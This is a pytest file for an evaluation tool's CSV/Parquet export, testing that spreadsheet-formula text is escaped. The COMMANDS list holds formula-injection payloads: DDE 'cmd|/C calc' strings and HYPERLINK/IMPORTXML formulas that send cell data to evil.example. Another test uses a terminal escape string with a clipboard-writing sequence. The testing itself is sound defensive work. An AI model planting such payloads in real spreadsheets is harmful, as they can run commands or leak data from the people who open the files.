"""`evalharness export`: a record as CSV or Parquet with exact texts, safe to open in a spreadsheet."""

from __future__ import annotations

import csv
import io
import json
import os
import pty
import re
import subprocess
import sys
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path
from typing import Any

import pandas
import pytest
from click.testing import CliRunner, Result
from store.stored_records import HOSTILE, a_run, a_sample, accepted, broken, write

from evalharness.cli import main
from evalharness.records import Run
from evalharness.records.table import Row
from evalharness.store import read_run

COMMANDS = (
    "=1+1",
    "=cmd|'/C calc'!A0",
    '=HYPERLINK("https://evil.example/?q="&A1,"click")',
    '=IMPORTXML("https://evil.example","//a")',
    "+1+1",
    "+cmd|'/C calc'!A0",
    "-1+1",
    "-2+3+cmd|'/C calc'!A0",
    "@SUM(1+1)*cmd|'/C calc'!A0",
    "@A1",
)
LEADS = ("", "\t", "\r", "\n", "\t\t", "\r\n")
FORMULAS = tuple(f"{lead}{command}" for command in COMMANDS for lead in LEADS)
"""Sixty texts that a spreadsheet may take for a formula."""
LEADERS = set("=+-@\t\r\n")


def run_cli(*arguments: str | Path) -> Result:
    """Run `evalharness ...` in this process."""
    result = CliRunner().invoke(main, [str(argument) for argument in arguments])
    assert result.exception is None or isinstance(result.exception, SystemExit), result.exception
    return result


def stored(folder: Path, *texts: str) -> Path:
    """The folder of a run with a sample for each text, in all its fields."""
    write(folder / "run.jsonl", a_run([a_sample(f"{text} {n}", text=text) for n, text in enumerate(texts)]))
    return folder


def cells(text: str) -> list[dict[str, str]]:
    """Parse CSV text as RFC 4180."""
    return list(csv.DictReader(io.StringIO(text, newline="")))


def plain(row: Row) -> Row:
    """Return a row without missing values."""
    return {name: value for name, value in row.items() if value is not None}


def read_back(row: dict[str, str], like: Row) -> Row:
    """Convert the cells of a CSV row to the types of another row."""

    def value(cell: str, kind: type) -> Any:
        return json.loads(cell) if kind is list else cell == "True" if kind is bool else kind(cell)

    return {name: value(row[name], type(given)) for name, given in plain(like).items()}


def test_to_the_letter(tmp_path: Path) -> None:
    """With --raw, every cell has the text of the record."""
    folder = stored(tmp_path / "run", *HOSTILE, *FORMULAS)
    result = run_cli("export", folder, "--csv", "--raw", "-o", tmp_path / "x.csv")
    assert (result.exit_code, result.stdout) == (0, f"{tmp_path / 'x.csv'}: {len(HOSTILE + FORMULAS)} rows\n")
    found = cells((tmp_path / "x.csv").read_bytes().decode())
    wanted = list(read_run(folder / "run.jsonl").rows())
    assert len(found) == len(wanted)
    for row, like in zip(found, wanted, strict=True):
        for name, value in read_back(row, like).items():
            given = like[name]
            assert value in (given, str(given).encode("utf-8", "backslashreplace").decode()) or name in LISTS, name


LISTS = ("tags", "failed_checks")


INSIDE = tuple(f"fine{end}{blanks}{c}" for end in ";|\t\r\n" for blanks in ("", " ", ' "') for c in COMMANDS[::4])
"""Formulas behind what another country or program takes for the end of a cell or a row."""


def test_no_formula(tmp_path: Path) -> None:
    """No cell starts like a formula wherever a program cuts the text, and only apostrophes are added."""
    assert len(set(FORMULAS)) == 60
    texts = [*FORMULAS, *INSIDE]
    folder = stored(tmp_path, *texts)
    shown = cells(run_cli("export", folder).stdout_bytes.decode())
    raw = cells(run_cli("export", "--raw", folder).stdout_bytes.decode())
    for text, row, plain_row in zip(texts, shown, raw, strict=True):
        pieces = [piece.lstrip(' "') for cell in row.values() for piece in re.split("[;|\t\r\n]", cell)]
        assert not [piece for piece in pieces if piece[:1] in LEADERS and piece], ascii(row)
        assert (row["answer"].replace("'", ""), plain_row["answer"]) == (text.replace("'", ""), text)
    for formula, row in zip(COMMANDS, shown[:: len(LEADS)], strict=False):
        assert (row["answer"], row["case"][: len(formula) + 1]) == (f"'{formula}", f"'{formula}")


def test_a_list_is_cut_where_semicolons_separate(tmp_path: Path) -> None:
    """A `;` inside a list of tags starts no formula, and ordinary text gets no apostrophe."""
    write(tmp_path / "run.jsonl", a_run([replace(a_sample(text="a; b - c | d\n1 = 1"), tags=("x;=1+1", "a-b"))]))
    (row,) = cells(run_cli("export", tmp_path).stdout)
    assert (json.loads(row["tags"]), row["answer"]) == (["x;'=1+1", "a-b"], "a; b - c | d\n1 = 1")


def test_errors_cannot_be_formulas_either(tmp_path: Path) -> None:
    """The error message of a provider is escaped, too."""
    write(tmp_path / "run.jsonl", a_run([broken(message="=1+1")]))
    (row,) = cells(run_cli("export", tmp_path).stdout)
    assert (row["error_message"], row["answer"], row["latency_s"]) == ("'=1+1", "", "")


def test_parquet(tmp_path: Path) -> None:
    """The file has the rows and types of `to_pandas`."""
    folder = stored(tmp_path / "run", *(text for text in HOSTILE if "\ud83d" not in text), *FORMULAS)
    result = run_cli("export", folder, "-o", tmp_path / "x.parquet")
    assert (result.exit_code, result.stdout) == (0, f"{tmp_path / 'x.parquet'}: {len(HOSTILE) - 1 + 60} rows\n")
    table = read_run(folder / "run.jsonl").to_pandas()
    found = pandas.read_parquet(tmp_path / "x.parquet")
    for column in table:
        kind = str(table[column].dtype)
        assert str(found[column].dtype) in (kind, "str", "object") if kind in ("string", "object") else kind
        assert [_plain(cell) for cell in found[column]] == [_plain(cell) for cell in table[column]]
    assert found.attrs == table.attrs


def _plain(cell: Any) -> Any:
    if hasattr(cell, "tolist"):
        cell = cell.tolist()
    return cell if isinstance(cell, list) else None if pandas.isna(cell) else cell


def test_half_a_character_in_parquet(tmp_path: Path) -> None:
    """Half a surrogate pair, which UTF-8 cannot hold, is written as JSON escapes it."""
    run_cli("export", stored(tmp_path, "lone \ud83d half"), "-o", tmp_path / "x.parquet")
    assert pandas.read_parquet(tmp_path / "x.parquet")["answer"].tolist() == ["lone \\ud83d half"]


@pytest.mark.parametrize("name", ["x.csv", "x.parquet"])
def test_no_samples(tmp_path: Path, name: str) -> None:
    """A run without a sample is a table with its columns and no row; types are kept."""
    write(tmp_path / "run.jsonl", Run(a_run().header, (), ()))
    assert run_cli("export", tmp_path, "-o", tmp_path / name).stdout.endswith(": 0 rows\n")
    path = tmp_path / name
    table = pandas.read_csv(path) if name.endswith("csv") else pandas.read_parquet(path)
    assert (len(table), "score_exact" in table) == (0, True)
    if name == "x.parquet":
        assert str(table["attempts"].dtype) == "Int64"


def test_a_baseline(tmp_path: Path) -> None:
    """A baseline file is exported with a row per accepted sample."""
    path = accepted(tmp_path, a_run(), a_run(name="run-2"))
    rows = cells(run_cli("--root", tmp_path, "export", path).stdout)
    assert [(row["case"], row["run_id"], row["score_exact"]) for row in rows] == [
        *(("a", "run-1", "0.123457"), ("a", "run-2", "0.123457")),
        *(("b", "run-1", "0.123457"), ("b", "run-2", "0.123457")),
    ]


def test_folder_or_record(tmp_path: Path) -> None:
    """A run's folder and its record give the same export, and repeated exports are byte-identical."""
    folder = stored(tmp_path / "run", "x")
    first = run_cli("export", folder).stdout_bytes
    assert run_cli("export", folder / "run.jsonl").stdout_bytes == first
    assert run_cli("export", "--csv", folder).stdout_bytes == first
    assert read_run(folder / "run.jsonl").metric_names == ["exact"]


@pytest.mark.parametrize("name", ["x.csv", "x.parquet"])
def test_again(tmp_path: Path, name: str) -> None:
    """An earlier export is replaced, whatever its rows were; so is an empty file."""
    target = tmp_path / "new" / name
    for texts in (["one"], ["one", "two"]):
        assert run_cli("export", stored(tmp_path / "run", *texts), "-o", target).exit_code == 0
    assert len(pandas.read_csv(target) if name.endswith("csv") else pandas.read_parquet(target)) == 2
    target.write_bytes(b"")
    assert run_cli("export", tmp_path / "run", "-o", target).exit_code == 0


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("cases.csv", b"id,question\na,b\n"),
        ("x.csv", b"suite,run_id\n"),
        ("x.parquet", b"PAR1 but no more"),
        ("notes.csv", "größe\n".encode("latin-1")),
    ],
)
def test_what_people_wrote_is_kept(tmp_path: Path, name: str, content: bytes) -> None:
    """A file that is not an export is kept; --force replaces it."""
    folder, target = stored(tmp_path / "run", "x"), tmp_path / name
    target.write_bytes(content)
    refused = run_cli("export", folder, "-o", target)
    assert (refused.exit_code, target.read_bytes()) == (1, content)
    assert "is not an export: choose another file, or pass --force" in refused.stderr
    assert run_cli("export", folder, "--force", "-o", target).exit_code == 0
    assert target.read_bytes() != content


def test_never_over_the_record(tmp_path: Path) -> None:
    """Even with --force, the exported record is never overwritten."""
    folder = stored(tmp_path, "x")
    before = (folder / "run.jsonl").read_bytes()
    result = run_cli("export", folder, "--csv", "--force", "-o", folder / "run.jsonl")
    assert (result.exit_code, (folder / "run.jsonl").read_bytes()) == (1, before)
    assert "the output is the exported file" in result.stderr


@pytest.mark.parametrize(
    ("arguments", "status", "shown"),
    [
        (["--help"], 0, "Example: evalharness export reports/support -o support.parquet"),
        ([], 2, "Missing argument"),
        (["no/such/run"], 2, "does not exist"),
        (["run", "--parquet"], 2, "--parquet requires -o FILE"),
        (["run", "-o", "x.xlsx"], 2, "x.xlsx: unknown suffix: pass --csv or --parquet"),
        (["run", "-o", "x.parquet", "--raw"], 2, "--raw requires CSV"),
        (["run", "-o", "run"], 2, "is a directory"),
        (["empty"], 1, "run.jsonl: cannot be read"),
        (["other.jsonl"], 1, "other.jsonl:1: expected the first line of a run or a baseline"),
        (["blank.jsonl"], 1, "blank.jsonl:1:1: not JSON"),
        (["cut.jsonl"], 1, "the last line is cut off"),
    ],
)
def test_usage(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, arguments: list[str], status: int, shown: str) -> None:
    """The help has an example; an error is one line with a place."""
    monkeypatch.chdir(tmp_path)
    stored(Path("run"), "x")
    Path("empty").mkdir()
    Path("other.jsonl").write_text('{"schema": 1, "kind": "recording"}\n')
    Path("blank.jsonl").write_text("")
    Path("cut.jsonl").write_bytes(Path("run/run.jsonl").read_bytes()[:-3])
    result = run_cli("export", *arguments)
    assert (result.exit_code, shown in " ".join(result.output.split())) == (status, True), result.output


@pytest.mark.parametrize("on_a_terminal", [True, False])
def test_terminal(tmp_path: Path, on_a_terminal: bool) -> None:
    """On a terminal, text is escaped; a pipe gets the bytes unchanged."""
    folder = stored(tmp_path, "\x1b[31mred\x1b]52;c;aGk=\x07")
    command = [sys.executable, "-c", "from evalharness.cli import main; main()", "export", str(folder)]
    shown = (_on_a_terminal if on_a_terminal else _piped)(command)
    assert (b"\x1b" in shown, "⟨U+001B⟩[31mred".encode() in shown) == (not on_a_terminal, on_a_terminal)


def _piped(command: list[str]) -> bytes:
    return subprocess.run(command, capture_output=True, check=True).stdout


def _on_a_terminal(command: list[str]) -> bytes:
    reader, writer = pty.openpty()
    with subprocess.Popen(
        command, stdout=writer, stderr=writer, env={**os.environ, "PYTHONIOENCODING": "utf-8"}
    ) as done:
        os.close(writer)
        shown = b"".join(iter(_reading(reader), b""))
    assert done.returncode == 0, shown
    return shown


def _reading(reader: int) -> Callable[[], bytes]:
    def read() -> bytes:
        try:
            return os.read(reader, 65536)
        except OSError:  # Linux reports a closed other end this way
            return b""

    return read
